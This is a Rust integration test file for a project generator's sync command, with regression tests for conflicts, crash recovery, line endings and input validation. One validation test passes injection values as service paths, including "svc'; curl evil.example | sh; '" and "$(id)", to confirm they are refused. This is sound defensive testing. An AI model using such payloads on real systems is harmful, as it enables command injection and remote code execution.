//! Sync you can leave unattended: one reproduction per defect of issue 16,
//! each named after what it protects, and the kill test.
//!
//! Every test here failed against scaffold 0.1 as released (run them with
//! `SCAFFOLD_TEST_BIN=<an older debug build>` to see it); see the issue for
//! what each one did then.

use std::collections::BTreeMap;
use std::path::Path;

use super::context::TestContext;

use super::sync::{DEPLOY, SERVICE, STAGING, THREE, TWO, run, stderr, stdout};

/// Every file below `root` (outside `.git`) with its bytes.
fn tree_bytes(root: &Path) -> BTreeMap<String, Vec<u8>> {
    fn walk(dir: &Path, root: &Path, out: &mut BTreeMap<String, Vec<u8>>) {
        for entry in std::fs::read_dir(dir).unwrap() {
            let path = entry.unwrap().path();
            if path.file_name().is_some_and(|n| n == ".git") {
                continue;
            }
            if path.is_dir() {
                walk(&path, root, out);
            } else {
                let relative = path.strip_prefix(root).unwrap();
                out.insert(
                    relative.to_string_lossy().replace('\\', "/"),
                    std::fs::read(&path).unwrap(),
                );
            }
        }
    }
    let mut out = BTreeMap::new();
    walk(root, root, &mut out);
    out
}

/// Lines that open a conflict block (`<<<<<<<` and more).
fn conflict_starts(text: &str) -> usize {
    text.lines().filter(|l| l.starts_with("<<<<<<<")).count()
}

// 1. Non-ASCII text.

#[test]
fn conflicts_in_non_ascii_lines_never_panic() {
    let context = TestContext::new();
    context.generate(TWO);
    // Byte 8 of this line falls inside `ü`: slicing lines by bytes panicked.
    context.edit(SERVICE, "port 3000\n", "Ärger über Port 3001\n");
    context.set_answers(TWO, "us-east-1", 8080);
    run(&context, &["sync"], 3);
    let text = context.read(SERVICE);
    assert!(
        text.contains("Ärger über Port 3001\n") && text.contains("port 8080\n"),
        "{text}"
    );
    // And every later sync reports it instead of panicking.
    run(&context, &["sync"], 3);
}

#[test]
fn non_ascii_names_are_invalid_input_not_a_panic() {
    let context = TestContext::new();
    // Each cuts a derived name inside a multi-byte character: the app name
    // in the 32-byte workload identity pool, the environment in the
    // 17-byte key vault prefix.
    for (name, env, key) in [
        ("ääääääääääääääää", "staging", "`app.name`"),
        ("shop", "aaaaaaaaaaaü", "`environments[0].name`"),
        ("設定", "staging", "`app.name`"),
    ] {
        context.write(
            "scaffold.toml",
            &format!(
                "[app]\nname = \"{name}\"\n\n[[services]]\nname = \"api\"\nlanguage = \"go\"\n\n[[environments]]\nname = \"{env}\"\n"
            ),
        );
        let output = run(&context, &["new", "--answers", "scaffold.toml"], 2);
        assert!(stderr(&output).contains(key), "{key}: {}", stderr(&output));
    }
}

// 2. An interrupted run never blocks the next.

#[test]
fn a_killed_runs_leftovers_never_block_the_next_run() {
    let context = TestContext::new();
    context.generate(TWO);
    // What a killed scaffold 0.1 left: its mutex file and a temporary file.
    context.write(".scaffold/sync.lock", "");
    context.write("fixture/env/.scaffold-AbC123", "half a file");
    context.set_answers(TWO, "us-east-1", 8080);
    run(&context, &["sync"], 0);
    assert!(context.read(SERVICE).contains("port 8080"));
    assert!(!context.exists("fixture/env/.scaffold-AbC123"));
    assert!(!context.exists(".scaffold/sync.lock"));
    // `add` and `new` are not blocked either.
    context.write(".scaffold/sync.lock", "");
    run(
        &context,
        &["add", "service", "--name", "web", "--language", "go"],
        0,
    );
    context.write(".scaffold/sync.lock", "");
    run(&context, &["new", "--answers", "scaffold.toml"], 0);
}

// 3 and 4. Unresolved conflicts are reported, never merged into again.

#[test]
fn an_unresolved_conflict_is_never_merged_into_again() {
    let context = TestContext::new();
    context.generate(TWO);
    context.edit(SERVICE, "port 3000\n", "port 3001\n");
    context.set_answers(TWO, "us-east-1", 8080);
    run(&context, &["sync"], 3);
    let conflicted = context.read(SERVICE);
    // The render moves on before the user resolves the conflict.
    context.set_answers(TWO, "us-east-1", 9090);
    let output = run(&context, &["sync"], 3);
    assert!(
        stdout(&output)
            .contains("unmerged  fixture/services/api.txt (it still has conflict markers"),
        "{}",
        stdout(&output)
    );
    assert_eq!(context.read(SERVICE), conflicted, "no nested markers");
    assert_eq!(conflict_starts(&context.read(SERVICE)), 1);
    // `--check` fails too, and says why.
    let output = run(&context, &["sync", "--check"], 3);
    assert!(
        stderr(&output).contains("unmerged  fixture/services/api.txt"),
        "{}",
        stderr(&output)
    );

    // Once resolved (the user keeps their port), the next sync merges the
    // render's later change against the base the conflict was written from.
    context.write(
        SERVICE,
        "# Generated by scaffold from scaffold.toml. Edit freely: `scaffold sync` keeps your changes.\nservice api\nport 3001\n",
    );
    let output = run(&context, &["sync"], 3);
    assert!(
        stdout(&output).contains("conflict  fixture/services/api.txt"),
        "{}",
        stdout(&output)
    );
    assert!(context.read(SERVICE).contains("port 9090\n"));
}

#[test]
fn sync_and_check_report_markers_while_the_render_is_unchanged() {
    let context = TestContext::new();
    context.generate(TWO);
    context.edit(SERVICE, "port 3000\n", "port 3001\n");
    context.set_answers(TWO, "us-east-1", 8080);
    run(&context, &["sync"], 3);
    context.commit_all("a conflict, committed by mistake");
    // Nothing changed since: still not "up to date".
    let output = run(&context, &["sync"], 3);
    assert!(
        !stdout(&output).contains("everything is up to date"),
        "{}",
        stdout(&output)
    );
    run(&context, &["sync", "--check"], 3);
}

// 5. The lock is input: checked, never trusted to name any path.

#[test]
fn a_crafted_lock_never_deletes_files_outside_the_generated_ones() {
    let context = TestContext::new();
    context.generate(TWO);
    context.commit_all("scaffold");
    let head = context.read(".git/HEAD");
    let id = context.git(&["hash-object", ".git/HEAD"]);
    let lock = context.read(".scaffold/lock.toml");
    context.write(
        ".scaffold/lock.toml",
        &lock.replace(
            "[files]\n",
            &format!("[files]\n\".git/HEAD\" = \"{}\"\n", id.trim()),
        ),
    );
    let before = tree_bytes(&context.root);
    let output = run(&context, &["sync"], 2);
    assert!(
        stderr(&output).contains("`files` names `.git/HEAD`: the path is inside git's own folder"),
        "{}",
        stderr(&output)
    );
    assert_eq!(context.read(".git/HEAD"), head);
    assert_eq!(tree_bytes(&context.root), before);
    run(&context, &["sync", "--check"], 2);
}

#[test]
fn a_lock_from_a_newer_scaffold_is_refused() {
    let context = TestContext::new();
    context.generate(TWO);
    let lock = context.read(".scaffold/lock.toml");
    context.write(
        ".scaffold/lock.toml",
        &lock.replace("version = 1", "version = 2"),
    );
    let output = run(&context, &["sync"], 2);
    assert!(
        stderr(&output).contains("written by a newer scaffold"),
        "{}",
        stderr(&output)
    );
}

#[test]
fn a_missing_lock_is_an_error_with_a_way_out_not_a_silent_freeze() {
    let context = TestContext::new();
    context.generate(TWO);
    context.remove(".scaffold/lock.toml");
    context.set_answers(TWO, "us-east-1", 8080);
    let before = tree_bytes(&context.root);
    let output = run(&context, &["sync"], 2);
    let err = stderr(&output);
    assert!(err.contains(".scaffold/lock.toml is missing"), "{err}");
    assert!(
        err.contains("`scaffold new --answers scaffold.toml`"),
        "{err}"
    );
    assert_eq!(tree_bytes(&context.root), before);
    run(&context, &["sync", "--check"], 2);
    // The way out it names works: files equal to the render are scaffold's
    // again; the one that changed stays the user's until restored.
    run(&context, &["new", "--answers", "scaffold.toml"], 0);
    assert!(context.lock().files.contains_key(STAGING));
    context.write(".scaffold/lock.toml", "");
    let output = run(&context, &["sync"], 2);
    assert!(
        stderr(&output).contains(".scaffold/lock.toml is missing"),
        "{}",
        stderr(&output)
    );
}

// 6 and 7. Service paths.

#[test]
fn service_paths_with_shell_syntax_are_refused_with_key_and_line() {
    let context = TestContext::new();
    for path in [
        "svc'; curl evil.example | sh; '",
        "a\nb",
        "a b",
        "$(id)",
        "api\"",
        "-rf",
    ] {
        let answers = format!(
            "[app]\nname = \"shop\"\n\n[[services]]\nname = \"api\"\nlanguage = \"go\"\npath = {}\n",
            toml_string(path)
        );
        context.write("answers.toml", &answers);
        let output = run(&context, &["new", "--answers", "answers.toml"], 2);
        let err = stderr(&output);
        assert!(
            err.contains("line 7: `services[0].path`"),
            "{path:?}: {err}"
        );
        assert!(!context.exists("scaffold.toml"), "{path:?}");
    }
}

/// `text` as a TOML basic string.
fn toml_string(text: &str) -> String {
    let mut out = String::from("\"");
    for c in text.chars() {
        match c {
            '"' => out.push_str("\\\""),
            '\\' => out.push_str("\\\\"),
            '\n' => out.push_str("\\n"),
            c => out.push(c),
        }
    }
    out.push('"');
    out
}

#[test]
fn a_service_folder_that_is_a_generated_file_writes_nothing() {
    let context = TestContext::new();
    context.write(
        "answers.toml",
        "[app]\nname = \"shop\"\n\n[[services]]\nname = \"api\"\nlanguage = \"go\"\npath = \"compose.yaml\"\n",
    );
    let before = tree_bytes(&context.root);
    let output = run(&context, &["new", "--answers", "answers.toml"], 2);
    let err = stderr(&output);
    assert!(
        err.contains("line 7: `services[0].path`: `compose.yaml` is where scaffold generates the file `compose.yaml`"),
        "{err}"
    );
    assert_eq!(tree_bytes(&context.root), before, "nothing is written");
}

#[test]
fn a_service_folder_where_the_user_has_a_file_writes_nothing() {
    let context = TestContext::new();
    context.write("api", "a file, not a folder\n");
    context.write(
        "answers.toml",
        "[app]\nname = \"shop\"\n\n[[services]]\nname = \"api\"\nlanguage = \"go\"\npath = \"api\"\n",
    );
    let before = tree_bytes(&context.root);
    let output = run(&context, &["new", "--answers", "answers.toml"], 2);
    assert!(
        stderr(&output).contains("line 7: `services[0].path`: `api` is a file, not a folder"),
        "{}",
        stderr(&output)
    );
    assert_eq!(tree_bytes(&context.root), before, "nothing is written");
}

// 8. Concurrent and failed `add`.

#[test]
fn concurrent_adds_keep_every_entry() {
    let context = TestContext::new();
    context.generate(TWO);
    let names: Vec<String> = (0..6).map(|i| format!("svc{i}")).collect();
    let children: Vec<_> = names
        .iter()
        .map(|name| {
            context
                .scaffold_std()
                .args(["add", "service", "--name", name, "--language", "go"])
                .stdout(std::process::Stdio::null())
                .stderr(std::process::Stdio::null())
                .spawn()
                .unwrap()
        })
        .collect();
    for mut child in children {
        assert!(child.wait().unwrap().success());
    }
    let answers = context.read("scaffold.toml");
    for name in &names {
        assert!(
            answers.contains(&format!("name = \"{name}\"")),
            "{name} lost:\n{answers}"
        );
        assert!(
            context.exists(&format!("fixture/services/{name}.txt")),
            "{name}"
        );
    }
    let output = run(&context, &["sync"], 0);
    assert!(
        stdout(&output).contains("everything is up to date"),
        "{}",
        stdout(&output)
    );
}

#[test]
fn a_failed_add_changes_nothing() {
    let context = TestContext::new();
    context.generate(TWO);
    let before = tree_bytes(&context.root);
    // A folder where scaffold generates a file: valid answers, unwritable render.
    run(
        &context,
        &[
            "add",
            "service",
            "--name",
            "web",
            "--language",
            "go",
            "--path",
            "compose.yaml",
        ],
        2,
    );
    assert_eq!(tree_bytes(&context.root), before);
    run(
        &context,
        &["add", "service", "--name", "api", "--language", "go"],
        2,
    );
    assert_eq!(tree_bytes(&context.root), before);
}

// 9. Line endings.

#[test]
fn autocrlf_checkouts_sync_without_conflicts_and_keep_crlf() {
    let context = TestContext::new();
    context.generate(TWO);
    // Git for Windows' default: check files out with CRLF.
    context.git(&["config", "core.autocrlf", "true"]);
    context.git(&["rm", "-r", "--cached", "--quiet", "."]);
    for path in [DEPLOY, SERVICE, STAGING] {
        context.remove(path);
    }
    context.git(&["reset", "--quiet", "--hard"]);
    assert!(
        context.read(SERVICE).contains("\r\n"),
        "the checkout has CRLF"
    );
    context.edit(
        DEPLOY,
        "name: deploy shop\r\n",
        "name: deploy shop\r\n# mine\r\n",
    );
    context.set_answers(THREE, "us-east-1", 8080);
    let output = run(&context, &["sync"], 0);
    let out = stdout(&output);
    assert!(!out.contains("conflict"), "{out}");
    assert!(out.contains("merge     fixture/deploy.yml"), "{out}");
    assert!(out.contains("update    fixture/services/api.txt"), "{out}");
    assert!(!out.contains("fixture/env/staging.txt"), "{out}");
    let deploy = context.read(DEPLOY);
    assert!(
        deploy.contains("# mine\r\n") && deploy.contains("deploy-qa:\r\n"),
        "{deploy}"
    );
    assert_eq!(deploy.matches('\n').count(), deploy.matches("\r\n").count());
    assert_eq!(
        context.read(SERVICE).matches('\n').count(),
        context.read(SERVICE).matches("\r\n").count()
    );
    let output = run(&context, &["sync"], 0);
    assert!(
        stdout(&output).contains("everything is up to date"),
        "{}",
        stdout(&output)
    );
}

// 10. Bytes that are not UTF-8.

#[test]
fn files_that_are_not_utf8_are_left_untouched_and_reported() {
    let context = TestContext::new();
    context.generate(TWO);
    // A line added after the header, in Latin-1.
    let original = std::fs::read(context.root.join(SERVICE)).unwrap();
    let header_end = original.iter().position(|&b| b == b'\n').unwrap() + 1;
    let mut bytes = original[..header_end].to_vec();
    bytes.extend_from_slice(b"# caf\xe9 (Latin-1)\n");
    bytes.extend_from_slice(&original[header_end..]);
    std::fs::write(context.root.join(SERVICE), &bytes).unwrap();
    context.set_answers(TWO, "us-east-1", 8080);
    let output = run(&context, &["sync"], 3);
    assert!(
        stdout(&output).contains("unmerged  fixture/services/api.txt (it is not UTF-8 text"),
        "{}",
        stdout(&output)
    );
    assert_eq!(std::fs::read(context.root.join(SERVICE)).unwrap(), bytes);
    // Saved as UTF-8, it merges against the base the lock kept.
    let text = String::from_utf8_lossy(&bytes).replace('\u{fffd}', "é");
    context.write(SERVICE, &text);
    run(&context, &["sync"], 0);
    let merged = context.read(SERVICE);
    assert!(
        merged.contains("port 8080\n") && merged.contains("# café (Latin-1)\n"),
        "{merged}"
    );
}

// 11. Bases every clone can see.

/// A clone of `context`'s repository (`git clone --depth 1` when `shallow`).
fn clone(context: &TestContext, shallow: bool) -> TestContext {
    let clone = TestContext::without_git();
    std::fs::remove_dir(&clone.root).unwrap();
    let source = format!("file://{}", context.root.display());
    let mut args = vec!["clone", "--quiet"];
    if shallow {
        args.extend(["--depth", "1"]);
    }
    let status = std::process::Command::new("git")
        .args(&args)
        .arg(&source)
        .arg(&clone.root)
        .status()
        .unwrap();
    assert!(status.success());
    clone
}

#[test]
fn shallow_clones_merge_edits_made_after_scaffold_wrote_the_file() {
    let context = TestContext::new();
    context.generate(TWO);
    context.edit(
        DEPLOY,
        "name: deploy shop\n",
        "name: deploy shop\n# reviewed\n",
    );
    context.commit_all("my edit");
    let clone = clone(&context, true);
    clone.set_answers(THREE, "us-east-1", 3000);
    let output = run(&clone, &["sync"], 0);
    assert!(
        stdout(&output).contains("merge     fixture/deploy.yml"),
        "{}",
        stdout(&output)
    );
    let deploy = clone.read(DEPLOY);
    assert!(
        deploy.contains("# reviewed\n") && deploy.contains("deploy-qa:"),
        "{deploy}"
    );
}

#[test]
fn edits_made_before_the_first_commit_merge_in_other_clones() {
    let context = TestContext::new();
    let answers = context.outside().join("answers.toml");
    std::fs::write(&answers, TestContext::answers(TWO, "us-east-1", 3000)).unwrap();
    run(
        &context,
        &["new", "--answers", answers.to_str().unwrap()],
        0,
    );
    // Edited before anything was committed: git never saw scaffold's version.
    context.edit(
        DEPLOY,
        "name: deploy shop\n",
        "name: deploy shop\n# reviewed\n",
    );
    context.commit_all("first commit");
    let clone = clone(&context, false);
    clone.set_answers(THREE, "us-east-1", 3000);
    let output = run(&clone, &["sync"], 0);
    assert!(
        stdout(&output).contains("merge     fixture/deploy.yml"),
        "{}",
        stdout(&output)
    );
    assert!(!clone.read(DEPLOY).contains("<<<<<<<"));
}

// 12. Conflict markers that content cannot imitate.

#[test]
fn a_users_separator_line_never_breaks_a_conflict() {
    let context = TestContext::new();
    context.generate(TWO);
    context.edit(SERVICE, "port 3000\n", "Ports\n=======\nport 3001\n");
    context.set_answers(TWO, "us-east-1", 8080);
    run(&context, &["sync"], 3);
    let text = context.read(SERVICE);
    // The markers are one longer than the user's line, so exactly one
    // separator of their length exists, and the user's line is intact.
    assert!(text.contains("\nPorts\n=======\nport 3001\n"), "{text}");
    assert_eq!(
        text.lines().filter(|l| *l == "========").count(),
        1,
        "{text}"
    );
    assert!(
        text.contains("<<<<<<<< yours (the file on disk)\n"),
        "{text}"
    );
}

// 13. Limits.

#[test]
fn overlong_free_text_is_refused_with_its_key() {
    let context = TestContext::new();
    let region = "a".repeat(200);
    context.write(
        "answers.toml",
        &format!(
            "[app]\nname = \"shop\"\ndescription = \"{}\"\n\n[cloud]\nregion = \"{region}\"\n\n[[services]]\nname = \"api\"\nlanguage = \"go\"\npath = \"{}\"\n",
            "d".repeat(2000),
            "p/".repeat(200),
        ),
    );
    let output = run(&context, &["new", "--answers", "answers.toml"], 2);
    let err = stderr(&output);
    for key in ["`app.description`", "`cloud.region`", "`services[0].path`"] {
        assert!(err.contains(key), "{key}: {err}");
    }
    assert!(!context.exists("scaffold.toml"));
}

#[test]
fn sync_rejects_answers_that_are_not_utf8_like_new() {
    let context = TestContext::new();
    context.generate(TWO);
    let mut bytes = std::fs::read(context.root.join("scaffold.toml")).unwrap();
    bytes.extend_from_slice(b"# caf\xe9\n");
    std::fs::write(context.root.join("scaffold.toml"), &bytes).unwrap();
    let before = tree_bytes(&context.root);
    let output = run(&context, &["sync"], 2);
    assert!(
        stderr(&output).contains("scaffold.toml is not UTF-8 text: line"),
        "{}",
        stderr(&output)
    );
    assert_eq!(tree_bytes(&context.root), before);
    let output = run(&context, &["new", "--answers", "scaffold.toml"], 2);
    assert!(stderr(&output).contains("UTF-8"), "{}", stderr(&output));
}

// The kill test.

/// Paths a run may leave behind that are not part of the result.
fn is_bookkeeping(path: &str) -> bool {
    path.starts_with(".scaffold/tmp/")
        || path == ".scaffold/sync.lock"
        || path == ".scaffold/sync.journal"
}

/// The local render cache (never committed): after a recovery it may record a different,
/// equally valid state than an uninterrupted run; the kill test checks instead that the
/// next sync, which reads it, changes nothing.
const CACHE: &str = ".scaffold/cache";

/// A repository where the next sync creates, updates, merges, deletes and
/// writes a conflict, as a directory to copy for each attempt.
fn kill_test_template() -> TestContext {
    let context = TestContext::new();
    context.generate(THREE);
    context.edit(DEPLOY, "name: deploy shop\n", "name: deploy shop\n# mine\n");
    context.edit(SERVICE, "port 3000\n", "port 3001\n");
    context.commit_all("edits");
    context.set_answers(&["staging", "production", "dev"], "eu-west-1", 8080);
    context
}

/// A copy of `template`'s repository, `.git` included.
fn copy_of(template: &TestContext) -> TestContext {
    let copy = TestContext::without_git();
    let status = std::process::Command::new("cp")
        .args(["-a", "--"])
        .arg(template.root.join("."))
        .arg(&copy.root)
        .status()
        .unwrap();
    assert!(status.success());
    copy
}

#[test]
fn a_sync_killed_at_any_point_leaves_old_or_new_files_and_recovers_by_itself() {
    let template = kill_test_template();
    let old = tree_bytes(&template.root);
    let finished = copy_of(&template);
    run(&finished, &["sync"], 3);
    let new = tree_bytes(&finished.root);
    let mut step = 1;
    loop {
        let attempt = copy_of(&template);
        let output = attempt
            .scaffold()
            .env("SCAFFOLD_TEST_ABORT_AFTER", step.to_string())
            .arg("sync")
            .output()
            .unwrap();
        let killed = output.status.code().is_none();
        let after = tree_bytes(&attempt.root);
        let mut paths: Vec<&String> = old.keys().chain(new.keys()).chain(after.keys()).collect();
        paths.sort();
        paths.dedup();
        for path in paths.into_iter().filter(|p| !is_bookkeeping(p)) {
            let now = after.get(path);
            assert!(
                now == old.get(path) || now == new.get(path),
                "after step {step}, {path} is neither old nor new"
            );
            if let Some(bytes) = now {
                let text = String::from_utf8_lossy(bytes);
                assert!(conflict_starts(&text) <= 1, "nested markers in {path}");
            }
        }
        // The next run needs no manual step and ends where an uninterrupted one did.
        run(&attempt, &["sync"], 3);
        let recovered: BTreeMap<_, _> = tree_bytes(&attempt.root)
            .into_iter()
            .filter(|(p, _)| !is_bookkeeping(p))
            .collect();
        assert_eq!(
            recovered.keys().collect::<Vec<_>>(),
            new.keys().collect::<Vec<_>>(),
            "after step {step}"
        );
        for (path, bytes) in &recovered {
            if path == CACHE {
                continue;
            }
            assert!(
                bytes == &new[path],
                "after step {step}, {path} differs from an uninterrupted sync"
            );
        }
        if recovered.get(CACHE) != new.get(CACHE) {
            // Whatever the recovered cache says, a sync that reads it writes nothing.
            run(&attempt, &["sync"], 3);
            let again: BTreeMap<_, _> = tree_bytes(&attempt.root)
                .into_iter()
                .filter(|(p, _)| !is_bookkeeping(p) && p != CACHE)
                .collect();
            let before: BTreeMap<_, _> = recovered
                .iter()
                .filter(|(p, _)| p.as_str() != CACHE)
                .map(|(p, b)| (p.clone(), b.clone()))
                .collect();
            assert_eq!(
                again, before,
                "after step {step}, a sync after recovery changed files"
            );
        }
        if !killed {
            assert_eq!(output.status.code(), Some(3));
            break;
        }
        // Every early step, then a stride through the many staged files.
        step += if step < 12 { 1 } else { 13 };
    }
    assert!(step > 20, "the sync had only {step} steps to interrupt");
}

/// A real kill, at a moment chosen by the clock rather than by a step count.
#[cfg(unix)]
#[test]
fn a_sync_killed_by_a_signal_recovers_by_itself() {
    let template = kill_test_template();
    let finished = copy_of(&template);
    run(&finished, &["sync"], 3);
    let new = tree_bytes(&finished.root);
    for delay_ms in [5, 20, 40, 80] {
        let attempt = copy_of(&template);
        let mut child = attempt.scaffold_std().arg("sync").spawn().unwrap();
        std::thread::sleep(std::time::Duration::from_millis(delay_ms));
        let _ = child.kill();
        let _ = child.wait();
        run(&attempt, &["sync"], 3);
        for (path, bytes) in tree_bytes(&attempt.root)
            .iter()
            .filter(|(p, _)| !is_bookkeeping(p))
        {
            assert!(
                Some(bytes) == new.get(path),
                "after {delay_ms} ms, {path} differs"
            );
        }
    }
}
